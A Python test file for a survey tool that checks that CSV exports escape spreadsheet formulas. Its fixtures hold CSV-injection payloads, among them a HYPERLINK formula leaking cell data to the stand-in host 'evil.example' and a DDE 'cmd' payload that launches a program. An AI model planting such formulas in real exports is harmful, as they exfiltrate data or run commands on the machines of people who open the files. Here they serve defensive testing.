"""Every CSV export opens in a spreadsheet as data: formula-like labels, candidates and ids are
prefixed with `'`, numbers stay numbers (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
import math
import re
from typing import Any

import pytest
from flask import Flask

from deniable.aggregator.access import OPERATOR
from deniable.aggregator.cli.core import cli
from deniable.aggregator.ingest import ingest
from deniable.aggregator.stats.csvsafe import csv_cell, write_csv
from deniable.aggregator.stats.estimate import CSV_COLUMNS
from deniable.aggregator.surveys import create_survey
from deniable.aggregator.web.db import get_store
from deniable.shared import Survey, SurveyError, make_report
from deniable.shared.signing import generate_key
from tests.aggregator.conftest import TOKEN
from tests.dashboard.conftest import csrf_of

#: What makes a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A number as a spreadsheet reads it and as Python writes it.
NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
#: Option labels, each starting with a dangerous character; "-2" is a number as written.
LABELS = [HYPERLINK, "@SUM(A1:A9)", "-2+3", "+1", "\t=1", "-2", "plain"]
#: A text question's own candidates (normalized text: no tab or CR survives normalization).
CANDIDATES = ["=1+1", "@sum(a1)", "-2+3", "+1", "-2", "lagos"]
#: Candidates asked for at export time (comma-separated, so none holds a comma).
ASKED = "=cmd|' /C calc'!A0,@x,+x,-x"

DOC: dict[str, Any] = {
    "id": "csv-attack",
    "title": HYPERLINK,
    "enrollment": "open",
    "questions": [
        {
            "id": "party",
            "text": "=1+1",
            "type": "categorical",
            "options": LABELS,
            "mechanism": "grr",
            "epsilon": 2.0,
        },
        {
            "id": "city",
            "text": "City?",
            "type": "text",
            "mechanism": "cms",
            "epsilon": 2.0,
            "cms": {"k": 8, "m": 32},
            "candidates": CANDIDATES,
        },
        {"id": "smokes", "text": "Smoke?", "type": "binary", "epsilon": 1.0},
        {"id": "drinks", "text": "How many?", "type": "integer", "min": -5, "max": 5, "epsilon": 1},
    ],
}


def formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate this cell (it starts a formula, not a number)."""
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


def expected_label(label: str) -> str:
    """A label or candidate as a safe export writes it."""
    return "'" + label if formula(label) else label


@pytest.fixture
def hostile_app(app: Flask) -> Flask:
    """The test app with the hostile survey and 40 reports (most answer "plain", so the other
    options' estimates are negative)."""
    with app.app_context():
        store = get_store()
        record, _ = create_survey(store, dict(DOC), who=OPERATOR)
        survey = Survey.from_dict(record.resolved)
        truths = [
            {"party": "plain", "city": "lagos", "smokes": "no", "drinks": -3} for _ in range(40)
        ]
        outcomes = ingest(store, [make_report(survey, t, generate_key()) for t in truths])
        assert all(o.result == "accepted" for o in outcomes), outcomes[:3]
    return app


def check_export(text: str, doc: dict[str, Any]) -> None:
    """The CSV as a spreadsheet reads it: no cell is a formula, labels and candidates are the
    document's (prefixed when dangerous), numbers are the document's, unprefixed."""
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(CSV_COLUMNS)
    body = rows[1:]
    expected = [
        (question, option) for question in doc["questions"] for option in question["options"]
    ]
    assert len(body) == len(expected)
    negatives = 0
    for row, (question, option) in zip(body, expected, strict=True):
        assert not any(formula(cell) for cell in row), row
        assert row[0] == question["id"]
        assert row[1] == expected_label(option["option"]), row
        for column, cell in zip(CSV_COLUMNS[2:], row[2:], strict=True):
            value = option[column]
            if value is None:
                assert cell == ""
            else:  # written as Python writes the number, and reads back as the same number
                assert cell == str(value) and NUMBER.fullmatch(cell), (column, cell)
                assert math.isclose(float(cell), value, rel_tol=0, abs_tol=0)
                negatives += cell.startswith("-")
    assert negatives > 0  # negative numbers were written, and stayed numbers
    labels = [row[1] for row in body]
    for label in LABELS + CANDIDATES + ["=cmd|' /c calc'!a0", "@x", "+x", "-x"]:
        assert expected_label(label) in labels, label
    for dangerous in ("'" + HYPERLINK, "'@SUM(A1:A9)", "'-2+3", "'+1", "'\t=1"):
        assert dangerous in labels
    assert "-2" in labels  # a number as written stays as it is
    assert "'-x" in labels and "'=1+1" in labels


def test_api_results_csv_is_safe(hostile_app, auth):
    client = hostile_app.test_client()
    query = {"candidates": ASKED}
    url = f"/api/v1/surveys/{DOC['id']}/results"
    doc = client.get(url, headers=auth, query_string=query).get_json()
    response = client.get(url + ".csv", headers=auth, query_string=query)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    check_export(response.get_data(as_text=True), doc)


def test_dashboard_results_csv_is_safe(hostile_app, auth):
    api = hostile_app.test_client()
    doc = api.get(
        f"/api/v1/surveys/{DOC['id']}/results", headers=auth, query_string={"candidates": ASKED}
    ).get_json()
    browser = hostile_app.test_client()
    page = browser.get("/login").get_data(as_text=True)
    login = browser.post("/login", data={"token": TOKEN, "csrf_token": csrf_of(page)})
    assert login.status_code == 302
    response = browser.get(f"/surveys/{DOC['id']}/results.csv", query_string={"candidates": ASKED})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    check_export(response.get_data(as_text=True), doc)


def test_cli_results_csv_is_safe(hostile_app, auth):
    doc = (
        hostile_app.test_client()
        .get(
            f"/api/v1/surveys/{DOC['id']}/results",
            headers=auth,
            query_string={"candidates": ASKED},
        )
        .get_json()
    )
    result = hostile_app.test_cli_runner().invoke(
        cli, ["results", DOC["id"], "--csv", "--candidates", ASKED]
    )
    assert result.exit_code == 0, result.output
    check_export(result.stdout, doc)


@pytest.mark.parametrize("start", FORMULA_START)
def test_ids_cannot_start_a_formula(start: str):
    """Survey and question ids are [a-z0-9-] starting with a letter or digit: never dangerous."""
    with pytest.raises(SurveyError, match="^id"):
        Survey.from_dict({**DOC, "id": start + "x"})
    bad = {**DOC["questions"][2], "id": start + "x"}
    with pytest.raises(SurveyError):
        Survey.from_dict({**DOC, "questions": [bad]})


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-0.03, "-0.03"),
        (-1.5e-05, "-1.5e-05"),
        (-3, "-3"),
        (0.25, "0.25"),
        (None, ""),
        ("-2", "-2"),
        ("-0.5", "-0.5"),
        ("-1.5e-05", "-1.5e-05"),
        ("-2+3", "'-2+3"),
        ("+1", "'+1"),  # a label, not one of our numbers (which never start with +)
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("-1e5e5", "'-1e5e5"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cell(value: object, cell: str):
    assert csv_cell(value) == cell


def test_write_csv_quotes_as_the_csv_module_reads():
    rows = [["=A1,B1", 'say "hi"', "\r=1\n", -0.5]]
    text = write_csv(["a", "b", "c", "d"], rows)
    assert list(csv.reader(io.StringIO(text))) == [
        ["a", "b", "c", "d"],
        ["'=A1,B1", 'say "hi"', "'\r=1\n", "-0.5"],
    ]
